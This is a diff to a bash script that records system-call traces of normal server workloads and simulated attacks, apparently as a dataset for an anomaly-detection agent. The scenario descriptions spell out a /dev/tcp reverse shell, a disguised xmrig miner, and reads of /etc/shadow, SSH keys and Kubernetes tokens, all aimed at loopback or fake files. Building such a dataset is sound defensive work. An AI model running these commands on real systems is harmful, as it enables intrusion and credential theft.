@@ -3,10 +3,23 @@
 #
 #   sudo datasets/record.sh                 # every scenario
 #   sudo datasets/record.sh nginx miner     # only these (the manifest keeps the others)
+#   sudo PARALLEL=1 DURATION=3000 datasets/record.sh nginx redis postgres pyhttp cronjob
+#                                           # the normal traces at once, one capture each
 #
 # Environment: DURATION (seconds of each normal trace, default 60), PRE_ATTACK (seconds of normal
 # workload before an attack, default 20), ATTACK_SECS (seconds recorded from the attack's start,
-# default 15), BASELINER (the agent binary, default target/release/baseliner).
+# default 15), BASELINER (the agent binary, default target/release/baseliner), PARALLEL=1 (record
+# the normal scenarios named concurrently, each in its own cgroup with its own capture; attacks
+# still run one after the other, afterwards), SEED (seed of the load pattern, default 1),
+# BURST_MIN/BURST_MAX (seconds of a busy period, default 3/20), QUIET_MIN/QUIET_MAX (seconds of a
+# quiet period, default 15/120), CRON_EVERY (seconds between two runs of the cron job, default 30).
+#
+# Load is bursty, as a real service sees it: busy periods (wrk / redis-benchmark / curl loops at
+# full speed, pgbench rate-limited) alternate with quiet periods that get only a trickle of single requests,
+# both of lengths drawn from a pseudo-random sequence seeded with SEED and the workload's name,
+# so the same SEED gives the same pattern. Each server also does its periodic maintenance: nginx
+# log rotation (USR1), redis BGSAVE / BGREWRITEAOF on top of its own snapshots, postgres VACUUM
+# ANALYZE on top of its checkpoints and autovacuum.
 #
 # Every workload runs in its own cgroup /sys/fs/cgroup/unified/baseliner-dataset-<workload> (an
 # attack scenario runs in the cgroup of the workload it attacks), started
@@ -20,6 +33,13 @@ BIN=${BASELINER:-$ROOT/target/release/baseliner}
 DURATION=${DURATION:-60}
 PRE_ATTACK=${PRE_ATTACK:-20}
 ATTACK_SECS=${ATTACK_SECS:-15}
+PARALLEL=${PARALLEL:-0}
+SEED=${SEED:-1}
+BURST_MIN=${BURST_MIN:-3}
+BURST_MAX=${BURST_MAX:-20}
+QUIET_MIN=${QUIET_MIN:-15}
+QUIET_MAX=${QUIET_MAX:-120}
+CRON_EVERY=${CRON_EVERY:-30}
 CGROOT=/sys/fs/cgroup/unified
 OUT=$HERE/traces
 PY=/usr/bin/python3
@@ -127,6 +147,67 @@ trap 'exit 130' INT TERM
 # Each wl_<name> <cg> <dir> <port> <seconds> starts its server inside the cgroup, drives it for
 # <seconds> from outside (or runs its job inside), then stops it. They run in the foreground.
 
+# The load pattern's pseudo-random numbers: an LCG of our own (bash's $RANDOM is reseeded in
+# subshells and differs between bash versions). seed_rng <workload> starts the sequence of that
+# workload; rnd LO HI sets R to a number in [LO, HI]. Call rnd without $( ), it changes RNG.
+seed_rng() {
+    local c
+    RNG=$SEED
+    for ((c = 0; c < ${#1}; c++)); do RNG=$(((RNG * 31 + $(printf '%d' "'${1:c:1}")) % 2147483648)); done
+}
+rnd() {
+    RNG=$(((RNG * 1103515245 + 12345) % 2147483648))
+    R=$(($1 + (RNG >> 8) % ($2 - $1 + 1)))
+}
+
+# drive <end> <burst> <trickle> [<maint> <min> <max>]: until $SECONDS reaches <end>, alternates a
+# busy period (`<burst> SECS` runs a load generator for SECS) with a quiet period in which
+# `<trickle>` sends one request every 1-12 s. `<maint>` runs in quiet periods, every <min>-<max> s.
+# The functions see the caller's locals (d, port, ...).
+drive() {
+    local end=$1 burst=$2 trickle=$3 maint=${4:-} mmin=${5:-0} mmax=${6:-0} b qend next_maint=0 nap
+    if [[ -n $maint ]]; then rnd "$mmin" "$mmax"; next_maint=$((SECONDS + R)); fi
+    while ((SECONDS < end)); do
+        rnd "$BURST_MIN" "$BURST_MAX"
+        b=$R
+        ((b > end - SECONDS)) && b=$((end - SECONDS))
+        ((b > 0)) && "$burst" "$b"
+        rnd "$QUIET_MIN" "$QUIET_MAX"
+        qend=$((SECONDS + R))
+        ((qend > end)) && qend=$end
+        while ((SECONDS < qend)); do
+            if [[ -n $maint ]] && ((SECONDS >= next_maint)); then
+                "$maint"
+                rnd "$mmin" "$mmax"
+                next_maint=$((SECONDS + R))
+            fi
+            "$trickle"
+            rnd 1 12
+            nap=$R
+            ((nap > qend - SECONDS)) && nap=$((qend - SECONDS))
+            ((nap > 0)) && sleep "$nap"
+        done
+    done
+}
+
+NGINX_PATHS=(/index.html /about.html /contact.html /css/site.css /js/app.js /img/logo.svg /img/hero.jpg
+    /fonts/inter-var.woff2 /favicon.ico /robots.txt /wp-login.php /.env /favicon.png /blog/)
+
+nginx_burst() {
+    rnd 2 8
+    wrk -t 1 -c "$R" -d "${1}s" -s "$d/paths.lua" "http://127.0.0.1:$port/" >>"$d/wrk.out" 2>&1 || true
+}
+nginx_trickle() {
+    rnd 0 $((${#NGINX_PATHS[@]} - 1))
+    curl -s -o /dev/null "http://127.0.0.1:$port${NGINX_PATHS[R]}" || true
+}
+# logrotate's way: move the logs aside, USR1 makes the master reopen them.
+nginx_rotate() {
+    mv -f "$d/logs/access.log" "$d/logs/access.log.1" 2>/dev/null || true
+    mv -f "$d/logs/error.log" "$d/logs/error.log.1" 2>/dev/null || true
+    kill -USR1 "$srv" 2>/dev/null || true
+}
+
 wl_nginx() {
     local cg=$1 d=$2 port=$3 secs=$4 f paths=""
     mkdir -p "$d"/{conf,logs,tmp} "$d/html"/{css,js,img,fonts}
@@ -166,13 +247,38 @@ EOF
     (in_cg "$cg" /usr/sbin/nginx -p "$d" -c "$d/conf/nginx.conf" -e "$d/logs/error.log") </dev/null >"$d/nginx.out" 2>&1 &
     local srv=$!
     wait_port "$port"
-    wrk -t 2 -c 16 -d "${secs}s" -s "$d/paths.lua" "http://127.0.0.1:$port/" >"$d/wrk.out" 2>&1 || true
+    seed_rng nginx
+    drive $((SECONDS + secs)) nginx_burst nginx_trickle nginx_rotate 480 1200
     kill -QUIT "$srv" 2>/dev/null || true
     wait "$srv" 2>/dev/null || true
 }
 
+redis_burst() {
+    local bend=$((SECONDS + $1)) c
+    rnd 5 20
+    c=$R
+    while ((SECONDS < bend)); do
+        timeout $((bend - SECONDS + 1)) redis-benchmark -h 127.0.0.1 -p "$port" -q -c "$c" -n 5000 -r 100000 -d 64 \
+            -t set,get,incr,lpush,rpop,sadd,hset,lrange_100 </dev/null >>"$d/bench.out" 2>&1 || true
+    done
+}
+redis_trickle() {
+    rnd 1 100000
+    redis-cli -h 127.0.0.1 -p "$port" SET "session:$R" "user-$R" EX 600 >/dev/null 2>&1 || true
+    redis-cli -h 127.0.0.1 -p "$port" GET "key:__rand_int__" >/dev/null 2>&1 || true
+}
+# On top of redis' own snapshots ("save 5 1000"): an operator's BGSAVE, sometimes BGREWRITEAOF.
+redis_maint() {
+    redis-cli -h 127.0.0.1 -p "$port" BGSAVE >/dev/null 2>&1 || true
+    rnd 1 3
+    if ((R == 1)); then
+        sleep 2
+        redis-cli -h 127.0.0.1 -p "$port" BGREWRITEAOF >/dev/null 2>&1 || true
+    fi
+}
+
 wl_redis() {
-    local cg=$1 d=$2 port=$3 secs=$4 end round=0
+    local cg=$1 d=$2 port=$3 secs=$4
     mkdir -p "$d"
     cat >"$d/redis.conf" <<EOF
 bind 127.0.0.1
@@ -194,16 +300,8 @@ EOF
     ) </dev/null >"$d/redis.out" 2>&1 &
     local srv=$!
     wait_port "$port"
-    end=$((SECONDS + secs))
-    while ((SECONDS < end)); do
-        timeout $((end - SECONDS + 1)) redis-benchmark -h 127.0.0.1 -p "$port" -q -c 20 -n 20000 -r 100000 -d 64 \
-            -t set,get,incr,lpush,rpop,sadd,hset,lrange_100 </dev/null >>"$d/bench.out" 2>&1 || true
-        if ((round == 1)); then
-            redis-cli -h 127.0.0.1 -p "$port" BGSAVE >/dev/null 2>&1 || true
-            redis-cli -h 127.0.0.1 -p "$port" BGREWRITEAOF >/dev/null 2>&1 || true
-        fi
-        round=$((round + 1))
-    done
+    seed_rng redis
+    drive $((SECONDS + secs)) redis_burst redis_trickle redis_maint 240 720
     kill -TERM "$srv" 2>/dev/null || true
     wait "$srv" 2>/dev/null || true
 }
@@ -217,8 +315,27 @@ prep_postgres() {
         "$PGBIN/initdb" -U postgres --auth=trust --no-sync -D "$d/data" >"$d/initdb.out" 2>&1)
 }
 
+pg_burst() {
+    local c r
+    rnd 1 4
+    c=$R
+    rnd 50 400
+    r=$R
+    "$PGBIN/pgbench" -h 127.0.0.1 -p "$port" -U postgres -T "$1" -c "$c" -j 1 -R "$r" postgres >>"$d/bench.out" 2>&1 || true
+}
+pg_trickle() {
+    rnd 1 200000
+    "$PGBIN/psql" -h 127.0.0.1 -p "$port" -U postgres -d postgres -qAt \
+        -c "SELECT abalance FROM pgbench_accounts WHERE aid = $R" >/dev/null 2>&1 || true
+}
+# Checkpoints (checkpoint_timeout 5 min) and autovacuum happen by themselves; an operator's
+# VACUUM ANALYZE comes on top.
+pg_maint() {
+    "$PGBIN/psql" -h 127.0.0.1 -p "$port" -U postgres -d postgres -qAt -c "VACUUM ANALYZE" >/dev/null 2>&1 || true
+}
+
 wl_postgres() {
-    local cg=$1 d=$2 port=$3 secs=$4 end i left
+    local cg=$1 d=$2 port=$3 secs=$4 end i
     (
         cd "$d"
         in_cg "$cg" setpriv --reuid=postgres --regid=postgres --clear-groups "$PGBIN/postgres" \
@@ -232,9 +349,8 @@ wl_postgres() {
         sleep 0.1
     done
     "$PGBIN/pgbench" -h 127.0.0.1 -p "$port" -U postgres -i -s 2 -q postgres >>"$d/bench.out" 2>&1 || true
-    left=$((end - SECONDS))
-    ((left < 2)) && left=2
-    "$PGBIN/pgbench" -h 127.0.0.1 -p "$port" -U postgres -T "$left" -c 4 -j 2 postgres >>"$d/bench.out" 2>&1 || true
+    seed_rng postgres
+    drive "$end" pg_burst pg_trickle pg_maint 600 1200
     kill -INT "$srv" 2>/dev/null || true
     wait "$srv" 2>/dev/null || true
 }
@@ -274,23 +390,42 @@ EOF
     printf '#!/bin/sh\nid\nuname -a\ncat /etc/hostname\nls /root >/dev/null 2>&1\n' >"$d/www/static/update.sh"
 }
 
+PYHTTP_PATHS=(/ /index.html /static/app.js /static/style.css /docs/guide.html /docs/data.json /docs/ /missing.html)
+
+# 1-3 clients, each fetching the site's pages one after the other.
+pyhttp_burst() {
+    local bend=$((SECONDS + $1)) n k p pids=()
+    rnd 1 3
+    n=$R
+    for ((k = 0; k < n; k++)); do
+        (
+            while ((SECONDS < bend)); do
+                for p in "${PYHTTP_PATHS[@]}"; do
+                    curl -s -o /dev/null "http://127.0.0.1:$port$p" || true
+                done
+            done
+        ) &
+        pids+=($!)
+    done
+    wait "${pids[@]}" 2>/dev/null || true
+}
+pyhttp_trickle() {
+    rnd 0 $((${#PYHTTP_PATHS[@]} - 1))
+    curl -s -o /dev/null "http://127.0.0.1:$port${PYHTTP_PATHS[R]}" || true
+}
+
 wl_pyhttp() {
-    local cg=$1 d=$2 port=$3 secs=$4 end p
+    local cg=$1 d=$2 port=$3 secs=$4
     (in_cg "$cg" "$PY" "$d/httpd.py" "$port" "$d/www") </dev/null >"$d/pyhttp.out" 2>&1 &
     local srv=$!
     wait_port "$port"
-    end=$((SECONDS + secs))
-    while ((SECONDS < end)); do
-        for p in / /index.html /static/app.js /static/style.css /docs/guide.html /docs/data.json /docs/ /missing.html; do
-            curl -s -o /dev/null "http://127.0.0.1:$port$p" || true
-        done
-        sleep 0.2
-    done
+    seed_rng pyhttp
+    drive $((SECONDS + secs)) pyhttp_burst pyhttp_trickle
     kill -TERM "$srv" 2>/dev/null || true
     wait "$srv" 2>/dev/null || true
 }
 
-# A cron-like job: every 5 s a fresh shell runs a backup-and-rotate script.
+# A cron-like job: every CRON_EVERY s a fresh shell runs a backup-and-rotate script.
 wl_cronjob() {
     local cg=$1 d=$2 secs=$4
     mkdir -p "$d/data/etc" "$d/backups"
@@ -307,7 +442,7 @@ du -sh "$d/backups" >/dev/null
 logger -t baseliner-cronjob "backup done"
 EOF
     chmod +x "$d/job.sh"
-    (in_cg "$cg" timeout "$secs" /bin/bash -c "while :; do /bin/bash '$d/job.sh'; sleep 5; done") </dev/null >"$d/cron.out" 2>&1 || true
+    (in_cg "$cg" timeout "$secs" /bin/bash -c "while :; do /bin/bash '$d/job.sh'; sleep $CRON_EVERY; done") </dev/null >"$d/cron.out" 2>&1 || true
 }
 
 # ---------------------------------------------------------------- attacks
@@ -416,11 +551,11 @@ at_server_shell() {
 
 describe() {
     case $1 in
-    nginx) echo "nginx (master + 2 workers, root) serving a static site on loopback under wrk (2 threads, 16 connections), including a few 404 paths" ;;
-    redis) echo "redis-server as user redis (AOF + RDB snapshots) under repeated redis-benchmark rounds, with one BGSAVE and BGREWRITEAOF" ;;
-    postgres) echo "postgres as user postgres (initdb outside the capture) loaded with pgbench -i -s 2 then pgbench -c 4 -j 2" ;;
-    pyhttp) echo "python3 http.server (ThreadingHTTPServer + SimpleHTTPRequestHandler in a small httpd.py) on loopback, fetched with curl in a loop" ;;
-    cronjob) echo "cron-like job: every 5 s a fresh bash runs date, tar -czf of a small dir, find/sort/xargs rm rotation, du and logger" ;;
+    nginx) echo "nginx (master + 2 workers, root) serving a static site on loopback, bursty load: wrk bursts (1 thread, 2-8 connections) between quiet periods of single curl requests, including a few 404 paths; log rotation with USR1 every 8-20 min" ;;
+    redis) echo "redis-server as user redis (AOF + RDB snapshots every 5 s with 1000 changes), bursty load: redis-benchmark bursts between quiet periods of single SET/GET from redis-cli; BGSAVE every 4-12 min, sometimes BGREWRITEAOF" ;;
+    postgres) echo "postgres as user postgres (initdb outside the capture) loaded with pgbench -i -s 2, then bursty load: pgbench bursts (1-4 clients, 50-400 tps) between quiet periods of single SELECTs from psql; checkpoints and autovacuum by themselves, VACUUM ANALYZE every 10-20 min" ;;
+    pyhttp) echo "python3 http.server (ThreadingHTTPServer + SimpleHTTPRequestHandler in a small httpd.py) on loopback, bursty load: 1-3 curl loops over the site between quiet periods of single curl requests" ;;
+    cronjob) echo "cron-like job: every ${CRON_EVERY} s a fresh bash runs date, tar -czf of a small dir, find/sort/xargs rm rotation, du and logger" ;;
     miner) echo "pyhttp, then a bash script named xmrig (in a hidden .cache dir) started with -o stratum+tcp://127.0.0.1:<port> -u <monero address> --donate-level 1 -t 2 connects to a loopback pool and logs in" ;;
     reverse_shell) echo "pyhttp, then bash -i >& /dev/tcp/127.0.0.1/<port> 0>&1 to a loopback listener that sends 'id; uname -a; exit'" ;;
     credentials) echo "nginx, then a shell reads /etc/shadow, /root/.ssh/id_rsa and the Kubernetes service-account token (fakes created for the scenario where absent)" ;;
@@ -466,7 +601,7 @@ record() {
     "$BIN" capture --json --cgroup "$cg" --dedup-window 5 --stats-json >"$tmp" 2>"$d/capture.err" &
     CAPTURE_PID=$!
     local i
-    for ((i = 0; i < 300; i++)); do
+    for ((i = 0; i < 600; i++)); do
         grep -q capturing "$d/capture.err" 2>/dev/null && break
         kill -0 "$CAPTURE_PID" 2>/dev/null || { cat "$d/capture.err" >&2; return 1; }
         sleep 0.1
@@ -521,6 +656,32 @@ SCEN=("$@")
 ((${#SCEN[@]})) || SCEN=("${NORMALS[@]}" "${ATTACKS[@]}")
 for s in "${SCEN[@]}"; do
     [[ " ${NORMALS[*]} ${ATTACKS[*]} " == *" $s "* ]] || { echo "unknown scenario $s" >&2; exit 2; }
+done
+if [[ $PARALLEL == 1 ]]; then
+    # The normal scenarios at once, each a background record (own cgroup, work dir, port and
+    # capture); the attacks after them, one at a time.
+    PAR=()
+    SEQ=()
+    for s in "${SCEN[@]}"; do
+        if [[ " ${NORMALS[*]} " == *" $s "* ]]; then PAR+=("$s"); else SEQ+=("$s"); fi
+    done
+    REC_PIDS=()
+    for s in "${PAR[@]}"; do
+        (
+            trap - EXIT INT TERM
+            record "$s"
+        ) &
+        REC_PIDS+=($!)
+        BG_PIDS+=($!)
+        sleep 2 # the captures load their programs one after the other
+    done
+    failed=0
+    for p in "${REC_PIDS[@]}"; do wait "$p" || failed=1; done
+    write_manifest
+    ((failed == 0)) || { echo "record.sh: a parallel recording failed" >&2; exit 1; }
+    SCEN=("${SEQ[@]}")
+fi
+for s in "${SCEN[@]}"; do
     record "$s"
     write_manifest
 done
